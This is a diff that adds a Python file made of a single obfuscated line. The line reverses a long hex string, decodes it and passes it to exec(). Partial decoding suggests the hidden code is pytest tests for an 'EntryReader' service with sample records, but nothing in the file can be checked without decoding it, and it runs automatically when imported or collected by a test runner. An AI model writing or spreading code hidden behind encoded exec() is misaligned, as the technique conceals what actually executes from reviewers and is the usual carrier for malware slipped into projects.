@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092d50202020202020202a0c292d7247402a202031302a32247867696e62202c25302a322e69616d622b702c20313031382020202020202020202020202a0c292d7247402a202031302a32247867696e62202c2247402a202032302a322e69616d622b702c20303031382020202020202020202020202a0b502c292922213152282375696275637e2929727f6473656279646e266c6563782275646165625972747e6563582473796c682c616571754472756373716e266c656370202020202020202a0a09222e6c52202b20292d7d7d75302a322e69616d622b702a322131522b702a322362202c222462202a322b62202c20313031302a3224722b7823707d65746e2e6f637a6825647962777e266020202020202020202020202a09222e6c52202b20292d792038256c607d61637f502a322172202c222372202a322b62202c20303031302a3224722b7823707d65746e2e6f637a6825647962777e266020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222772202c247e656d676563782e65607f602864796770202020202020202a09222c6e6f637a6e2130303030303f57656372202c29727f6473656279646e266c6563782e696f6a6e286471607e237f602d30247e656d67656370202020202020202a0a39266c6563782371647c65646f547966656e65626f59736167656c6f53746165627f5473756470266564602020202a0a092d70323131302d3c3024702d3c3020353031302669602928237d6564796e23756c607d6163702e696021702c2470227f666021702a347b702c292920323131302c203530313823756c607d61637e2275646165627824736964682c616571754472756373716e266c656370202020202020202a0921302c29292823747e656d6765637e227564616562782e656c68227564716562774472756373716e266c656370202020202020202a0929727f6473656279646e266c6563782275646165625972747e6563502d3022756461656270202020202020202a0a0920363d33746e6f6365637f547e656d6765637f58716d602c23756c607d61637824627f6365627f5e266c656370202020202020202a0d7920323825676e6162702e69602960227f6660292968256c607d61637f502a3031302a2029602b20203030313b702d3023756c607d616370202020202020202a0a39266c65637825676e61627f556d69647f5473756470266564602020202a0a092d522462202c2223722b502c292823746e696b6f5e266c6563782c616571754472756373716e266c656370202020202020202a092d792138256c607d61637f502a30323031302c292038256c607d61637f502a30313031302c292038256c607d61637f502a303030313b7824627f6365627f5e266c656370202020202020202a0a39266c6563782e6564747962777f547f6e6f53796f556c607d61637f5465676e6168636e657f5473756470266564602020202a0a092d746e6f636563702a30313031302c2473727966602a303030313b702c29292823756c607d61637e2929727f6473656279646e266c6563782275646165625972747e65635824736964682c616571754472756373716e266c656370202020202020202a092d522372202c2223722b502c292823746e696b6f5e266c6563782c616571754472756373716e266c656370202020202020202a0a092d746e6f636563702a30313031302c2473727966602a303030313b7824627f6365627f5e266c656370202020202020202a092d7247402a32276e696e69616d656272202c2247402a322c61647f6472202c2223757e6f6242202a32256d616e62202c2223757e6f6262202a322469622b78246e656070716e2d5223747966656e6562622b5d503b546e6f63656370202020202020202a092138256c607d61637f502c292038256c607d61637f502d30246e6f636563702c247372796660202020202020202a0a39266c656378247f686370716e637f5375647962777f55676e6168636f5c6162757473657274737f5473756470266564602020202a0a09292d7247402a202031302a32247867696e62202c22302a2a2024323031302a202035302a202939302d202247402a202032302a322e69616d622b702c2039393138202c2d513d2b537569627563782c616571754472756373716e266c656370202020202020202a09203031302c29237569627563782e656c682c616571754472756373716e266c656370202020202020202a092922213152282375696275637e227564616562782473796c602d3023756962756370202020202020202a0a092839302c2922246228247e657f636e23746e696b682c616571754472756373716e266c656370202020202020202a08637562766562702c61667275647e696f547f686370716e637025686470246e6160256c607d6163702473727966602320202922302c2922237228247e657f636e23746e696b682c616571754472756373716e266c656370202020202020202a092823746e696b6f5e266c6563702d3023746e696b60202020202020202a0a0923756c607d6163702c29292823756c607d61637e2275646165627824736964682c616571754472756373716e266c656370202020202020202a0929727f6473656279646e266c6563782275646165625972747e6563502d3022756461656270202020202020202a0a0923756c607d61637824627f6365627f5e266c656370202020202020202a0d792030313825676e6162702e69602960227f6660292968256c607d61637f502a3031302a2029602b20203030313b702d3023756c607d616370202020202020202a0a39266c6563782371647c65646f5375647962777f507962747f546e657f627f5473756470266564602020202a0a03746e696b602e627574756270202020202020202a0926602e6960256e696c60227f66602d522b622b59256e696c682374616f6c6e2e6f637a68246e656478756e23746e696b602020202020202020202020202020202a0a36602371602922247272202c292d52256c6966622b5972747e65602c29727f6473656279646e266c6563782e696f6a6e286471607e237f682e65607f6e20796a7760286479677020202020202020202020202a0a392929222e6f637a6e2875646e6962202c29727f6473656279646e266c6563782e696f6a6e286471607e237f682e65607f6824616f6c6e2e6f637a602e69602972747e6560227f6660202020202020202a0d5b502d3023746e696b60202020202020202a0a3473796c602e3d2029266c65637823746e696b6f50266564602020202a0a092825637f6c636e227564627f63656270202020202020202a09207d616473756d6964702c2371647f65717824627f6365627e227564627f6365627020202020202020202020202a0a3928237d6564796e23756c607d6163702e69602371647f6571702c207d616473756d696470227f6660202020202020202a0923776271677b6a2a202c29727f6473656279646e266c656378227564627f6365625972747e6563502d30227564627f63656270202020202020202a0a3923776271677b6a2a202c24736964602a33756c607d6163702c266c65637824627f6365627f50266564602020202a0a09222d247375647d25627f64737d2972747e6563722d38796665627078207d6564746b6d6e256c6966607d6564702d3029727f6473656279646e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e65782473756455627f64735972747e6563502373716c636a0a0a0d502020202a0c2d70202020202020202a0c2d5d7730252020756473702d20203031302a32276e696e69616d656272202c203031302a322c61647f6472202c222543494f4652202a32256079747f5164716462202c222e6f607c656e42202a32256d616e62202c222563696f6672202a322469622b7b502a3223747966656e6562622020202020202020202020202a0c2730252020756473702d20203031302a32276e696e69616d6562722020202020202020202020202a0c20303635323237363731302a3224716f54656279607875622020202020202020202020202a0c222e6f607c656e42202a32256d616e622020202020202020202020202a0c22223152202a3225646f636f51647f6571722020202020202020202020202a0b70202020202020202a0c2d70202020202020202a0c2d5020202020202020202020202a0c2d7247402a202031302a32276e696e69616d656272202c2247402a202031302a322c61647f6472202c222144514442202a32256079747f5164716462202c222d616c616d4021647f657b42202a32256d616e62202c22247867696e62202a322469622b702020202020202020202020202020202a0c2d74656375702d202247402a202032302a32276e696e69616d656272202c2247402a202032302a322c61647f6472202c222144514442202a32256079747f5164716462202c22216d6164755021647f657b42202a32256d616e62202c222e69616d62202a322469622b702020202020202020202020202020202a0b502a3223747966656e6562622020202020202020202020202a0c24656375702a3224656375722020202020202020202020202a0c24656375702d202247402a202033302a32276e696e69616d6562722020202020202020202020202a0c20303635323237363731302a3224716f54656279607875622020202020202020202020202a0c222f626d6f63402162747852202a32256d616e622020202020202020202020202a0c22213152202a3225646f636f51647f6571722020202020202020202020202a0b70202020202020202a0b502e6275747562702020202a02302a2a2024323031302a202035302a2020756473702d3024656375702020202a0a3473796c602e3d2029247e69602a3075647378256c607d61637f502665646a0a0a03302a2a2024323031302d3022474a0a027564627f6365625972747e6563502c2275646165625972747e65635024727f607d696025627f64737f5972747e65637e256369667275637e207071602d6f62766a0a0473756474796e657024727f607d696a056c6966607d65647024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a00796a776024727f607d696" ));